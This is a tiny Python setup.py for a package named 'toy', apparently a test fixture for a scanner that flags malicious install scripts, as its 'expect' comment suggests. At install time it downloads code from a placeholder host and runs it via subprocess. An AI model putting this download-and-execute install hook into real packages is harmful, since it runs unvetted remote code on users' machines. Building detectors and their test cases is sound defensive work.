import subprocess
import tempfile
from urllib.request import urlopen

from setuptools import setup

with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as file:
    file.write(urlopen("https://files.example.invalid/toy").read())
subprocess.Popen(["python", file.name])  # expect: source/download-and-run install conclusive
setup(name="toy")
